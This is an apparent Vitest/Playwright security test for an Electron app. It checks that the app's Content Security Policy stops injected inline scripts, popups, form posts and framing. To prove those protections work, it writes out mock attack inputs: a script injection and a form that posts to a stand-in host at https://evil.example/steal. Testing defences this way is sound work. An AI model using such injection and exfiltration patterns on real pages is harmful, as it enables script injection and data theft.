import { describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../electron/security/csp';
import { launchApp } from './fixtures';

describe('the page is locked down in Chromium', () => {
  it('carries the CSP, runs no inline or injected script, opens no window, posts no form and cannot be framed', async () => {
    const app = await launchApp();
    const { page } = app;
    const response = await page.reload();
    expect(response!.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    await page.getByRole('heading', { name: 'Set up Box Office' }).waitFor();

    // An injected inline script does not run.
    await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = true';
      document.body.append(s);
    });
    expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();

    // No new window.
    let popups = 0;
    page.on('popup', () => (popups += 1));
    expect(await page.evaluate(() => window.open('https://evil.example/', '_blank'))).toBeNull();
    await page.waitForTimeout(200);
    expect(popups).toBe(0);

    // No form post anywhere (form-action 'none'): the page stays where it is.
    const before = page.url();
    await page.evaluate(() => {
      const f = document.createElement('form');
      f.action = 'https://evil.example/steal';
      f.method = 'post';
      document.body.append(f);
      f.submit();
    });
    await page.waitForTimeout(300);
    expect(page.url()).toBe(before);

    // A page elsewhere cannot frame the app (frame-ancestors 'none', X-Frame-Options DENY).
    const other = await app.newPage({ withToken: false });
    await other.setContent(`<iframe id="f" src="${app.shell.url}"></iframe>`);
    await other.waitForTimeout(500);
    const frame = other.frames().find((f) => f !== other.mainFrame());
    const framed = frame ? await frame.evaluate(() => document.body?.innerText ?? '').catch(() => '') : '';
    expect(framed).not.toMatch(/Set up Box Office/);
  });
});
